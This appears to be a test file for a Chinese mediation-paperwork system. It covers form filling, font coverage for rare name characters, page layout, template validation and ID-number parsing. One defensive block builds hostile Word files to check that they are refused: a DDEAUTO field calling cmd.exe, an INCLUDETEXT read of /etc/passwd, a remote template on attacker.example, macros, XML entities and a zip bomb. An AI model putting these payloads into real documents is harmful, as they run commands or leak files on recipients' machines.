import JSZip from 'jszip';
import { PAPER_NAMES, paperOf, type PaperName } from '../../services/cases/papers/catalogue';
import { isField, isList, LISTS, type Values } from '../../services/cases/papers/fields';
import { docxOf } from '../../services/cases/papers/form-text';
import { Faces } from '../../services/cases/papers/fonts';
import { bornOf, sexOf } from '../../services/cases/papers/identity-number';
import { facesIn, findLibreOffice, LibreOffice } from '../../services/cases/papers/libre-office';
import { printed } from '../../services/cases/papers/pdf';
import { filled, hardToPrint, mustBeHarmless, mustFit, tagsOf, textOf } from '../../services/cases/papers/template';
import { actOf } from '../../workflows/contract/act-table';
import { readPdf, readPdfs, wordsOf, type ReadPage } from '../support/papers';

// Papers: their forms ask for what a case knows, a name is printed whole, and what is empty is a blank for ink.

let faces: Faces;
const printedForms = new Map<PaperName, ReadPage[]>();
beforeAll(async () => {
  faces = new Faces();
  const pdfs: Buffer[] = [];
  for (const name of PAPER_NAMES) pdfs.push(await printed(await full(await formOf(name)), faces));
  readPdfs(pdfs).forEach((pages, i) => printedForms.set(PAPER_NAMES[i] ?? PAPER_NAMES[0], pages));
});
/** Rare in names, and missing in most faces. */
const NAMES = '王喆堃玥赟镕㐀𠮷';
const ours = (): string[] => faces.all.map(({ postscriptName }) => postscriptName);

/** A form with everything it asks for: each field says its own name, and each list has two rows. */
async function full(docx: Buffer, value: (name: string) => string | null = (name) => `〔${name}〕`): Promise<Buffer> {
  const values: Values = {};
  const lists: Record<string, Values[]> = {};
  for (const { name } of await tagsOf(docx)) {
    const list = name.slice(1);
    if (!name.startsWith('#')) values[name] = value(name);
    else if (isList(list))
      lists[list] = [1, 2].map((no) =>
        Object.fromEntries(Object.keys(LISTS[list]).map((field) => [field, `${value(field)}${no}`])),
      );
  }
  return filled(docx, values, lists);
}
const formOf = (name: PaperName): Promise<Buffer> => docxOf(paperOf(name).form);

describe.each(PAPER_NAMES)('%s', (name) => {
  const paper = paperOf(name);

  test('asks for nothing that the case or whoever makes it does not know, and prints all of it', async () => {
    const docx = await formOf(name);
    const used = await tagsOf(docx);
    await mustFit(docx, paper, used);
    const pages = printedForms.get(name) ?? [];
    const words = wordsOf(pages);
    for (const { name: field, list } of used.filter((one) => !one.name.startsWith('#'))) {
      const isOfRow = list !== null && isList(list) && Object.hasOwn(LISTS[list], field);
      expect(words).toContain(isOfRow ? `〔${field}〕2` : `〔${field}〕`);
    }
    for (const { width, height } of pages) expect([Math.round(width), Math.round(height)]).toEqual([595, 842]);
  });

  test('every field that it needs, and every one that is written, has a place in it', async () => {
    const places = new Set((await tagsOf(await formOf(name))).map((one) => one.name));
    expect(Object.keys(paper.written).filter((field) => !places.has(field))).toEqual([]);
    expect(Object.keys(paper.written).filter(isField)).toEqual([]);
    expect(actOf(paper.act)).toBeDefined();
  });

  test('no party reads in it the identity number of another', () => {
    if (paper.identity === true) expect(paper.readers).not.toContain('party');
  });

  test('what is inside of the mediation goes to nobody but who holds it', () => {
    if (paper.inside === true) expect(paper.readers).toEqual(['organisation', 'mediator']);
    const isBehind = /\{(调解经过|未成原因)\}/.test(paper.form);
    if (isBehind && paper.inside !== true) expect(paper.act).toBe('handOver');
  });
});

test('a rare character of a name is printed in a full face, and none is dropped or swapped', async () => {
  const docx = await full(await formOf('consentToMediation'), (name) => (name === '本人姓名' ? NAMES : null));
  const pdf = await printed(docx, faces);
  expect(wordsOf(readPdf(pdf))).toContain(NAMES);
  const faceOf = (char: string): string[] =>
    readPdf(pdf).flatMap(({ words }) => words.filter(({ text }) => text.includes(char)).map(({ face }) => face));
  expect(faceOf('喆')).toEqual(['NotoSerifSC-Regular']);
  expect(faceOf('𠮷')).toEqual(['CactusClassicalSerif-Regular']);
  expect((await facesIn(pdf)).filter((face) => !ours().includes(face))).toEqual([]);
});

test('a character that no face here has is named, and nothing is made', async () => {
  const docx = await full(await formOf('consentToMediation'), () => '王\u{2b81e}\ue123');
  await expect(printed(docx, faces)).rejects.toMatchObject({
    body: { code: 'GLYPH_MISSING', detail: expect.stringContaining('U+E123') },
  });
});

const office = findLibreOffice('');
(office === null ? test.skip : test)('LibreOffice, where it is installed, prints in the same faces', async () => {
  const docx = await full(await formOf('consentToMediation'), (name) => (name === '本人姓名' ? NAMES : null));
  const pdf = await new LibreOffice(office ?? '', faces).print(docx);
  if (pdf === null) throw new Error('it did not print, or in other faces');
  const words = wordsOf(readPdf(pdf));
  expect(Array.from(NAMES).filter((char) => !words.includes(char))).toEqual([]);
  expect((await facesIn(pdf)).filter((face) => !ours().includes(face))).toEqual([]);
});

test('GB/T 9704: a letter has 22 lines of 28 characters on its page, within its margins', async () => {
  const form = `# 函\n${Array.from({ length: 30 }, () => `^ ${'字'.repeat(28)}`).join('\n')}`;
  const [first, second] = readPdf(await printed(await docxOf(form), faces));
  const lines = (page: typeof first): Map<number, string> => {
    const found = new Map<number, string>();
    for (const { text, y, size } of page?.words ?? [])
      if (Math.round(size) === 16) found.set(Math.round(y), `${found.get(Math.round(y)) ?? ''}${text}`);
    return found;
  };
  expect(new Set([...lines(first).values(), ...lines(second).values()])).toEqual(new Set(['字'.repeat(28)]));
  const ys = [...lines(first).keys()].toSorted((a, b) => b - a);
  // 225 mm for 22 lines.
  expect(((ys[0] ?? 0) - (ys[10] ?? 0)) / 10).toBeCloseTo((225 / 25.4) * (72 / 22), 0);
  expect(Math.min(...(first?.words ?? []).filter(({ size }) => size > 15).map(({ x }) => x))).toBeCloseTo(
    (28 / 25.4) * 72,
    0,
  );
});

test('what is not known is a line to write on, and in a table an empty cell', async () => {
  const docx = await filled(
    await docxOf('| 姓名 | {本人姓名} |\n因{案由}申请\n{请求事项}'),
    { 本人姓名: null, 案由: null, 请求事项: null },
    {},
  );
  expect(await textOf(docx)).toBe(`姓名因${'＿'.repeat(6)}申请${'＿'.repeat(25)}`);
});

test('of nobody, a list has a row; of many, one each', async () => {
  const docx = await docxOf('| {#给付}{期次} | {金额}{/给付} |\n{#当事人}{姓名}。{/当事人}');
  const text = await textOf(
    await filled(
      docx,
      {},
      {
        给付: [
          { 期次: '1', 金额: '5.00' },
          { 期次: '2', 金额: null },
        ],
        当事人: [{ 姓名: '甲' }, { 姓名: '乙' }],
      },
    ),
  );
  expect(text).toBe('15.002甲。乙。');
});

describe('a form of a place’s own', () => {
  const paper = paperOf('extensionConsent');
  const national = async () => tagsOf(await docxOf(paper.form));
  const refusal = async (form: string) => {
    const failed = await docxOf(form)
      .then(async (docx) => mustFit(docx, paper, await national()))
      .then(
        () => null,
        (error: unknown) => error,
      );
    return (failed as { body: { code: string; errors?: { path: string }[]; detail: string } } | null)?.body;
  };

  test('may say the same in other words and another order', async () => {
    expect(
      await refusal(`# 同意书\n${paper.form.replace('# 延长调解期限同意书', '').split('\n').toReversed().join('\n')}`),
    ).toBeUndefined();
  });

  test.each([
    ['a field that is none', (form: string) => `${form}\n{身份证}`, '{身份证}'],
    ['a field of a list outside of it', (form: string) => `${form}\n{金额}`, '{金额}'],
    ['a list that is none', (form: string) => `${form}\n{#证人}{姓名}{/证人}`, '{#证人}'],
    ['a field that the national form has and it has not', (form: string) => form.replace('{案由}', '争议'), '{案由}'],
    [
      'a list within a list',
      (form: string) => `${form}\n{#当事人}{#给付}{金额}{/给付}{/当事人}`,
      '{#给付} in {#当事人}',
    ],
  ])('%s: refused, and named', async (_what, change, path) => {
    const body = await refusal(change(paper.form));
    expect(body?.code).toBe('DOCUMENT_REFUSED');
    expect(body?.errors?.map((one) => one.path)).toContain(path);
  });

  test.each([
    ['never closed', '{#当事人}{姓名}', 'never closed'],
    ['closed by another name', '{#当事人}{姓名}{/给付}', 'closes nothing'],
    ['half a mark', '{案由', 'half a mark'],
  ])('a list %s is refused', async (_what, more, says) => {
    const body = await refusal(`${paper.form}\n${more}`);
    expect([body?.code, body?.detail]).toEqual(['DOCUMENT_REFUSED', expect.stringContaining(says)]);
  });
});

describe('a form that does something', () => {
  const changed = async (change: (zip: JSZip) => unknown): Promise<Buffer> => {
    const zip = await JSZip.loadAsync(await formOf('extensionConsent'));
    await change(zip);
    return zip.generateAsync({ type: 'nodebuffer' });
  };
  const inBody = (xml: string) => async (zip: JSZip) => {
    const body = (await zip.file('word/document.xml')?.async('string')) ?? '';
    zip.file('word/document.xml', body.replace('<w:sectPr', `<w:p>${xml}</w:p><w:sectPr`));
  };
  const rels = (target: string) => (zip: JSZip) =>
    zip.file(
      'word/_rels/settings.xml.rels',
      `<Relationships><Relationship Target="${target}" TargetMode="External"/></Relationships>`,
    );

  test.each([
    ['a macro', (zip: JSZip) => zip.file('word/vbaProject.bin', 'x'), 'DOCUMENT_REFUSED'],
    ['an embedded program', (zip: JSZip) => zip.file('word/embeddings/oleObject1.bin', 'x'), 'DOCUMENT_REFUSED'],
    ['a template elsewhere', rels('http://attacker.example/a.dotm'), 'DOCUMENT_REFUSED'],
    [
      'a field that runs a command',
      inBody('<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>'),
      'DOCUMENT_REFUSED',
    ],
    [
      'the same field in two halves',
      inBody('<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r>'),
      'DOCUMENT_REFUSED',
    ],
    ['a file of this machine', inBody('<w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/>'), 'DOCUMENT_REFUSED'],
    [
      'entities',
      async (zip: JSZip) => {
        const body = (await zip.file('word/document.xml')?.async('string')) ?? '';
        zip.file('word/document.xml', body.replace(/(<\?xml[^>]*>)?/, '<!DOCTYPE a [<!ENTITY b "c">]>'));
      },
      'DOCUMENT_REFUSED',
    ],
    [
      'far more than it seems',
      (zip: JSZip) => zip.file('word/a.xml', ' '.repeat(20 * 1024 * 1024), { compression: 'DEFLATE' }),
      'TOO_LARGE',
    ],
    ['no text', (zip: JSZip) => zip.remove('word/document.xml'), 'UNSUPPORTED_MEDIA_TYPE'],
  ])('%s: %s', async (_what, change, code) => {
    await expect(mustBeHarmless(await changed(change))).rejects.toMatchObject({ body: { code } });
  });

  test('what is no Word file, and what is too large', async () => {
    await expect(mustBeHarmless(Buffer.from('%PDF-1.7'))).rejects.toMatchObject({
      body: { code: 'UNSUPPORTED_MEDIA_TYPE' },
    });
    await expect(mustBeHarmless(Buffer.alloc(2 * 1024 * 1024))).rejects.toMatchObject({ body: { code: 'TOO_LARGE' } });
  });

  test('what only LibreOffice prints is known before anybody needs it', async () => {
    expect(await hardToPrint(await formOf('extensionConsent'))).toEqual([]);
    const numbered = await changed(inBody('<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>'));
    expect(await hardToPrint(numbered)).toEqual(['automatic numbering']);
  });
});

test.each([
  ['11010519491231002X', '1949-12-31', '女'],
  ['440524188001010014', '1880-01-01', '男'],
  ['11010519491231002x', '1949-12-31', '女'],
  ['110105194912310021', null, null],
  ['91410300MA3X1A2B3C', null, null],
  ['', null, null],
])('GB 11643: %s', (number, born, sex) => {
  expect([bornOf(number), sexOf(number)]).toEqual([born, sex]);
});
